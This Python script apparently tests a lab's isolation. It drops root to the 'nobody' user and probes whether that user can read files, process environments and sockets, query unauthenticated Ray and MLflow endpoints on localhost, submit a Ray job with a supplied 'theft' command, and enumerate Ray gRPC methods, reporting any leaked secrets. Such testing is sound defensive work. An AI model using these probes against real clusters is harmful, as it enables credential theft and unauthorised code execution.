"""Attack a lab as another user: `python other_user.py PROBES`, run as root, prints what succeeded.

It imports everything before it becomes the user `nobody`, who may not be able to read the interpreter.
"""

import http.client
import importlib
import json
import os
import socket
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import grpc
import ray.core.generated

NOBODY = 65534
PATHS = (
    *("/", "/metrics", "/readyz", "/events", "/nodes?view=summary", "/openapi.json", "/runs"),
    *("/api/v1/runs", "/api/v1/leaderboard", "/api/v1/keys", "/api/v1/queue"),
    *("/api/jobs/", "/api/v0/tasks", "/api/v0/actors", "/api/v0/workers", "/api/v0/logs", "/api/v0/nodes"),
    *("/api/cluster_status", "/api/actors", "/api/component_activities", "/api/job_agent/jobs/"),
    *("/logical/actors", "/api/prometheus/sd", "/api/v0/logs/file?filename=raylet.out&node_ip=127.0.0.1"),
    *("/mlflow/", "/mlflow/ajax-api/2.0/mlflow/experiments/search?max_results=100", "/get-artifact"),
    *("/api/2.0/mlflow/experiments/search?max_results=100", "/ajax-api/2.0/mlflow/experiments/search"),
)
MADE = ("/api/2.0/mlflow/experiments/create", "/mlflow/api/2.0/mlflow/experiments/create")
UNLISTED = ("/ray.rpc.ObjectManagerService/Push", "/ray.rpc.ObjectManagerService/Pull")
"""Methods for which Ray has no Python; its other methods are read from the installed package.

Not tried are `grpc.health`, which reports whether a service serves, and `grpc.reflection`, which names
services: Ray answers both to every caller, with the same answer on every machine.
"""
REFUSED = (grpc.StatusCode.UNAUTHENTICATED, grpc.StatusCode.PERMISSION_DENIED, grpc.StatusCode.UNIMPLEMENTED)


def main() -> None:
    """Read the probes, become `nobody`, and print everything that succeeded as JSON."""
    probes: dict[str, Any] = json.loads(Path(sys.argv[1]).read_text())
    list(_over_http(0, "GET", "/", None, []))  # loads the modules that are imported at first use
    methods = [*UNLISTED, *_methods()]
    list(_over_grpc(1, methods))
    os.setgroups([])
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
    leaks = [*_files(probes), *_processes(probes), *_sockets(probes)]
    for port in probes["ports"]:
        for path in PATHS:
            leaks += _over_http(port, "GET", path, None, probes["secrets"])
        leaks += _over_http(port, "POST", "/api/jobs/", {"entrypoint": probes["theft"]}, probes["secrets"])
        location = {"name": "theft", "artifact_location": probes["folders"][0]}
        for path in MADE:
            leaks += _over_http(port, "POST", path, location, probes["secrets"])
        leaks += _over_grpc(port, methods)
    print(json.dumps(leaks))


def _files(probes: dict[str, Any]) -> Iterator[str]:
    for folder in probes["folders"]:
        try:
            yield f"lists {folder}: {[each.name for each in Path(folder).iterdir()]}"
        except PermissionError:
            continue
    for file in probes["files"]:
        try:
            with Path(file).open("rb"):
                yield f"reads {file}"
        except PermissionError:
            continue


def _processes(probes: dict[str, Any]) -> Iterator[str]:
    for pid in probes["pids"]:
        try:
            yield f"reads the environment of {pid}: {len(Path(f'/proc/{pid}/environ').read_bytes())}"
        except OSError:
            continue
        finally:
            said = Path(f"/proc/{pid}/cmdline").read_text() if Path(f"/proc/{pid}").exists() else ""
            if any(secret in said for secret in probes["credentials"]):
                yield f"the command line of {pid} has a secret"


def _sockets(probes: dict[str, Any]) -> Iterator[str]:
    for path in probes["sockets"]:
        with socket.socket(socket.AF_UNIX) as probe:
            try:
                probe.connect(f"\0{path[1:]}" if path.startswith("@") else path)
                yield f"reaches {path}"
            except OSError:
                continue


def _over_http(port: int, method: str, path: str, body: object, secrets: list[str]) -> Iterator[str]:
    """Yield an answer that contains a secret or reports that something was created."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    try:
        text = json.dumps(body) if body else None
        connection.request(method, path, text, {"Content-Type": "application/json"} if body else {})
        answer = connection.getresponse()
        said = answer.read().decode(errors="replace")
    except (OSError, http.client.HTTPException):
        return
    finally:
        connection.close()
    if method == "POST" and answer.status < 400:
        yield f"{method} {path} at {port}: {answer.status} {said[:300]}"
    for secret in secrets:
        if secret in said:
            yield f"{method} {path} at {port} tells {secret!r}"


def _methods() -> list[str]:
    """List every method of every service of the installed Ray."""
    folder, found = Path(ray.core.generated.__path__[0]), []
    for file in sorted(folder.rglob("*_pb2.py")):
        words = file.relative_to(folder).with_suffix("").parts
        services = importlib.import_module(".".join((ray.core.generated.__name__, *words))).DESCRIPTOR
        for service in services.services_by_name.values():
            found += [f"/{service.full_name}/{method.name}" for method in service.methods]
    return found


def _over_grpc(port: int, methods: list[str]) -> Iterator[str]:
    """Yield every method whose empty request is not refused for lack of a token."""
    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        if not _speaks_grpc(channel):
            return
        for method in methods:
            code, answer = _ask(channel, method)
            if code not in REFUSED:
                yield f"{method} at {port}: {code.name} {answer[:200]!r}"


def _speaks_grpc(channel: grpc.Channel) -> bool:
    """Check for a gRPC server: it answers a method, also with `unimplemented`."""
    return _ask(channel, "/grpc.health.v1.Health/Check")[0] in (*REFUSED, grpc.StatusCode.OK)


def _ask(channel: grpc.Channel, method: str) -> tuple[grpc.StatusCode, bytes]:
    call = channel.unary_unary(method, lambda sent: sent, lambda received: received)
    try:
        return grpc.StatusCode.OK, call(b"", timeout=3)
    except grpc.RpcError as error:
        return error.code(), str(error.details()).encode()


if __name__ == "__main__":
    main()
